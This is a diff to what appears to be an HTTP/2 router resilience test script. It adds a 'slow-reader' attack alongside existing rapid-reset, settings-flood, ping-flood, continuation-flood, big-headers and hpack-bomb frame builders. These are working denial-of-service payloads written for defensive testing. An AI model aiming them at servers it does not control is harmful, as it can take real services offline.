@@ -11,7 +11,8 @@ prints one line:
   served MS         (few-resets) the request after the resets was answered
   open              neither happened within 10 s (the limit did not hold)
 Attacks: rapid-reset, settings-flood, ping-flood, continuation-flood,
-big-headers, hpack-bomb; few-resets is the control: resets under the
+big-headers, hpack-bomb; slow-reader opens 100 streams of large answers,
+reads nothing for 3 s and prints "stalled"; few-resets is the control: resets under the
 limit, then a request on the same connection.
 """
 import socket
@@ -76,6 +77,16 @@ def attack(sock, name, authority):
             LAST = 1 + 2 * count
             batch.append(frame(HEADERS, END_HEADERS | END_STREAM, LAST, request_block(authority)))
         send(b"".join(batch))
+    elif name == "slow-reader":
+        # 100 streams of 50 MB each, and not a byte read: the router must
+        # stop reading its upstreams, not buffer their answers.
+        send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i,
+                            literal(":method", "GET") + literal(":scheme", "http") +
+                            literal(":path", "/big?bytes=50000000") +
+                            literal(":authority", authority)) for i in range(100)))
+        time.sleep(3)
+        print("stalled")
+        sys.exit(0)
     elif name == "settings-flood":
         send(frame(SETTINGS, 0, 0) * 20000)
     elif name == "ping-flood":
@@ -100,8 +111,9 @@ def attack(sock, name, authority):
                               bytes([0x80 | 62]) * 2000)
         send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
     else:
-        raise SystemExit("unknown attack %r: want rapid-reset, few-resets, settings-flood,"
-                         " ping-flood, continuation-flood, big-headers or hpack-bomb" % name)
+        raise SystemExit("unknown attack %r: want rapid-reset, few-resets, slow-reader,"
+                         " settings-flood, ping-flood, continuation-flood, big-headers or"
+                         " hpack-bomb" % name)
 
 
 def watch(sock, t0):
